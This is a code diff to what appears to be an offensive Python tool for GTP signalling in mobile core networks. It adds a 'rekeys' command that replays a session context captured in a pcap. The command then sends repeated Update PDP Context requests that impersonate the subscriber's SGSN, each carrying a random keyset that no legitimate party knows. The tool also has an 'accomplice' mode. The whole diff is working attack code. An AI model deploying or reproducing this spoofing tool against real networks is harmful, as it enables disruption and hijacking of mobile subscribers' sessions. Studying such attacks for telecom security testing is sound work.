@@ -6,6 +6,7 @@ response, or `none`.
 """
 
 import argparse
+import os
 import select
 import socket
 import struct
@@ -80,6 +81,19 @@ def command_request(args):
     print(ask(s, args.to, kind, 0 if getattr(args, "by_imsi", False) else context.ggsn_control, body, args.sequence))
 
 
+def command_rekeys(args):
+    """Many Updates of the context's own SGSN, one after the other, each with another keyset, which nobody knows."""
+    context = Context(args.pcap)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((args.source, 0))
+    for i in range(args.count):
+        keyset = KEYSET[:-16] + os.urandom(16)
+        body = (ie(TEID_DATA, context.sgsn[TEID_DATA][0]) + ie(TEID_CONTROL, context.sgsn[TEID_CONTROL][0])
+                + ie(NSAPI, context.sgsn[NSAPI][0]) + ie(PCO, keyset)
+                + ie(GSN_ADDRESS, context.sgsn[GSN_ADDRESS][0]) + ie(GSN_ADDRESS, context.sgsn[GSN_ADDRESS][1]))
+        ask(s, args.to, UPDATE_REQUEST, context.ggsn_control, body, args.sequence + i)
+
+
 def accept(s, to, kind, teid, sequence):
     s.sendto(gtp(kind, teid, ie(CAUSE, bytes([ACCEPTED])), sequence), to)
 
@@ -119,6 +133,13 @@ def main():
             request.add_argument("--keyset", action="store_true", help="names another one")
             request.add_argument("--by-imsi", action="store_true", help="and no TEID")
             request.add_argument("--downlink-to", help="address")
+    rekeys = commands.add_parser("rekeys")
+    rekeys.set_defaults(run=command_rekeys)
+    rekeys.add_argument("pcap")
+    rekeys.add_argument("source", help="address")
+    rekeys.add_argument("to", help="address")
+    rekeys.add_argument("sequence", type=int, help="of the first")
+    rekeys.add_argument("--count", type=int, default=1)
     accomplice = commands.add_parser("accomplice")
     accomplice.set_defaults(run=command_accomplice)
     accomplice.add_argument("address")
